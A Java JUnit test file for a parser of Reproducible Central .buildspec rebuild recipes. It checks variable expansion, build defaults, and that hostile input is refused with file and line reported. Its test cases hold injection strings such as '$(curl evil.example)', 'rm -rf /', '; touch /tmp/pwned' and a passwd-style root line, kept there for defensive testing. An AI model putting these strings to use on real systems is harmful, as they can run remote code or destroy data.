package dev.clearbox.core.rebuild;

import dev.clearbox.core.InvalidInputException;
import dev.clearbox.core.Stage;
import dev.clearbox.core.rebuild.internal.ShellWords;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

class ReproducibleCentralSpecTest {
    @TempDir
    Path tmp;

    // A spec written for this test in the format of Reproducible Central's doc/BUILDSPEC.md.
    private static final String SPEC = """
            # rebuild instructions
            groupId=org.example.tools
            artifactId=widget
            display=${groupId}:${artifactId}
            version=2.1.0

            gitRepo=https://git.example.org/tools/${artifactId}.git
            gitTag=${artifactId}-$version

            tool=mvn-3.9.6
            jdk=17
            newline=crlf
            umask=022   # group must not write

            command="mvn -Papache-release clean package -DskipTests -Dbuildinfo.ignore='*/*.spdx.json'"
            buildinfo=target/${artifactId}-${version}.buildinfo
            MAVEN_OPTS='-Duser.language=en'
            issue=
            """;

    private ReproducibleCentralSpec parse(String text) throws Exception {
        Path f = Files.writeString(tmp.resolve("widget-2.1.0.buildspec"), text);
        return ReproducibleCentralSpec.read(f);
    }

    @Test
    void readsVariablesAndExpandsReferences() throws Exception {
        ReproducibleCentralSpec s = parse(SPEC);
        assertEquals("org.example.tools:widget:2.1.0", s.coordinates());
        assertEquals("org.example.tools:widget", s.get("display"));
        assertEquals("https://git.example.org/tools/widget.git", s.get("gitRepo"));
        assertEquals("widget-2.1.0", s.get("gitTag"));
        assertEquals("022", s.get("umask"), "a trailing comment is not part of the value");
        assertEquals("target/widget-2.1.0.buildinfo", s.get("buildinfo"));
        assertEquals("", s.get("issue"));
        assertEquals("", s.get("notSet"));
    }

    @Test
    void becomesABuildSpec() throws Exception {
        BuildSpec b = parse(SPEC).toBuildSpec(Duration.ofSeconds(60), List.of());
        assertEquals(BuildTool.MAVEN, b.tool());
        assertEquals("3.9.6", b.toolVersion());
        assertEquals(JdkRequirement.feature(17), b.jdk());
        assertEquals(Newline.CRLF, b.newline());
        assertEquals("022", b.umask());
        assertEquals(List.of("mvn", "-Papache-release", "clean", "package", "-DskipTests",
                "-Dbuildinfo.ignore=*/*.spdx.json"), b.command(), "quotes are removed as a shell would, without a shell");
        assertEquals(new BuildSpec.GitState("https://git.example.org/tools/widget.git", "widget-2.1.0", ""), b.git());
        assertEquals("-Duser.language=en", b.extraEnvironment().get("MAVEN_OPTS"));
        assertEquals(BuildSpec.DEFAULT_RUNS, b.runs());
        assertEquals(NetworkPolicy.OFFLINE, b.network());
    }

    @Test
    void defaultsFollowReproducibleCentral() throws Exception {
        BuildSpec b = parse("tool=gradle\njdk=11.0.2\ncommand=\"gradle build && gradle publishToMavenLocal\"\n")
                .toBuildSpec(Duration.ofSeconds(60), List.of());
        assertEquals(BuildTool.GRADLE, b.tool());
        assertEquals(new JdkRequirement(11, "11.0.2"), b.jdk());
        assertEquals(Newline.LF, b.newline());
        assertEquals(ReproducibleCentralSpec.DEFAULT_UMASK, b.umask());
        assertEquals(List.of("/bin/sh", "-c", "gradle build && gradle publishToMavenLocal"), b.command(),
                "a command that needs a shell runs in one, inside the build's isolation");
    }

    @Test
    void multiLineQuotedValuesAndCrlfFilesAreRead() throws Exception {
        ReproducibleCentralSpec s = parse("a=1\r\ncommand=\"mvn \\\n  package\"\r\nb='x\ny'\nc=${a}\n");
        assertEquals("mvn   package", s.get("command"));
        assertEquals("x\ny", s.get("b"));
        assertEquals("1", s.get("c"));
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', quoteCharacter = '~', value = {
            "tool=mvn\\ncommand=\"$(curl evil.example)\"|2|command substitution",
            "tool=`id`|1|command substitution",
            "x=1\\nrm -rf /|2|not a variable assignment",
            "export JAVA_HOME=/tmp|1|not a variable assignment",
            "a=b; touch /tmp/pwned|1|shell operator ';'",
            "a=b c|1|unexpected text after the value",
            "a=${HOME}|1|refers to variable 'HOME'",
            "a=${b:-default}|1|only ${name} references",
            "a=\"never closed|1|unterminated double quote",
            "a='never closed|1|unterminated single quote",
            "a=1\\n\\nb=$1|3|only ${name} references",
    })
    void hostileOrUnsupportedTextIsRefusedWithFileAndLine(String text, int line, String problem) throws Exception {
        Path f = Files.writeString(tmp.resolve("bad.buildspec"), text.replace("\\n", "\n"));
        InvalidInputException e = assertThrows(InvalidInputException.class, () -> ReproducibleCentralSpec.read(f));
        assertEquals(Stage.REBUILD, e.stage());
        assertEquals(f + ":" + line, e.input());
        assertTrue(e.problem().contains(problem), e.problem());
        assertFalse(e.oneLine().contains("\n"), e.oneLine());
        assertFalse(Files.exists(Path.of("/tmp/pwned")));
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', quoteCharacter = '~', value = {
            "tool=sbt\\njdk=11\\ncommand=sbt|'tool' is not supported",
            "tool=mvn\\njdk=seventeen\\ncommand=mvn|not a JDK version",
            "tool=mvn\\njdk=17\\nnewline=cr\\ncommand=mvn|'newline' must be lf or crlf",
            "tool=mvn\\njdk=17|missing variable 'command'",
            "tool=mvn\\njdk=17\\ncommand=mvn\\nexecBefore=\"rm x\"|'execBefore' is not supported",
            "tool=mvn\\njdk=17\\numask=999\\ncommand=mvn|umask must be three octal digits",
            "tool=mvn\\njdk=17\\ngitTag=\"git describe --tags\"\\ncommand=mvn|computed by a git command",
    })
    void unusableRecipesAreRefused(String text, String problem) throws Exception {
        ReproducibleCentralSpec s = parse(text.replace("\\n", "\n"));
        InvalidInputException e = assertThrows(InvalidInputException.class,
                () -> s.toBuildSpec(Duration.ofSeconds(1), List.of()));
        assertTrue(e.problem().contains(problem), e.problem());
        assertTrue(e.input().endsWith("widget-2.1.0.buildspec"), e.input());
    }

    @Test
    void missingAndOversizedAndBinaryFilesAreRefused() throws Exception {
        assertTrue(assertThrows(InvalidInputException.class, () -> ReproducibleCentralSpec.read(tmp.resolve("none.buildspec")))
                .problem().contains("no such file"));
        Path big = Files.writeString(tmp.resolve("big.buildspec"), "a=" + "x".repeat((int) ReproducibleCentralSpec.MAX_BYTES));
        assertTrue(assertThrows(InvalidInputException.class, () -> ReproducibleCentralSpec.read(big)).problem().contains("larger"));
        Path bin = Files.write(tmp.resolve("bin.buildspec"), new byte[] {'a', '=', (byte) 0xff, (byte) 0xfe});
        assertTrue(assertThrows(InvalidInputException.class, () -> ReproducibleCentralSpec.read(bin)).problem().contains("UTF-8"));
    }

    @Test
    void commandsSplitLikeASimpleShellCommandOrAskForAShell() {
        assertEquals(List.of("mvn", "-Dx=a b", "it's", "c\"d"), ShellWords.split("mvn \"-Dx=a b\" 'it'\\''s' \"c\\\"d\""));
        assertNull(ShellWords.split("mvn package | tee log"));
        assertNull(ShellWords.split("mvn -Dv=$VERSION"));
        assertNull(ShellWords.split("ls *.jar"));
        assertNull(ShellWords.split("  "));
    }

    /** A vendor's file pointed at, say, a private file: the error must say where and what, never repeat the text. */
    @ParameterizedTest
    @CsvSource(delimiter = '|', quoteCharacter = '~', value = {
            "root:SECRET-HASH:0:0:root:/root:/bin/bash|1|not a variable assignment (a .buildspec is read as data, never run)",
            "a=1\\nb=${SECRET-HASH}|2|only ${name} references are supported",
            "tool=SECRET-HASH\\njdk=17\\ncommand=mvn|0|'tool' is not supported: expected mvn, mvn-VERSION or gradle",
            "tool=mvn\\njdk=SECRET-HASH\\ncommand=mvn|0|not a JDK version",
            "tool=mvn\\njdk=17\\nnewline=SECRET-HASH\\ncommand=mvn|0|'newline' must be lf or crlf",
            "tool=mvn\\njdk=17\\numask=SECRET-HASH\\ncommand=mvn|0|umask must be three octal digits",
            "tool=mvn\\njdk=17\\ngitTag=\"git SECRET-HASH\"\\ncommand=mvn|0|'gitTag' is computed by a git command; give the tag itself",
    })
    void errorsNameTheFileAndLineButNeverRepeatItsText(String text, int line, String problem) throws Exception {
        Path f = Files.writeString(tmp.resolve("vendor.buildspec"), text.replace("\\n", "\n"));
        InvalidInputException e = assertThrows(InvalidInputException.class,
                () -> ReproducibleCentralSpec.read(f).toBuildSpec(Duration.ofMinutes(1), List.of()));
        assertEquals(line == 0 ? f.toString() : f + ":" + line, e.input());
        assertEquals(problem, e.problem());
        assertFalse(e.oneLine().contains("SECRET"), e.oneLine());
    }
}
